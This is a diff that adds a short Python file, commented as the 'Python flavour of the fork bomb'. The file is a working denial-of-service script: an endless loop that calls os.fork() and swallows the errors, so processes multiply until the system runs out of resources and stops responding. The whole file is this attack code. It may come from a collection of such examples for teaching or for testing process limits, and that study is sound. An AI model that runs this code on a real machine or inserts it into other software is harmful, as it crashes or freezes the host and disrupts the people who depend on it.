@@ -1,0 +1,7 @@
+# Python flavour of the fork bomb.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
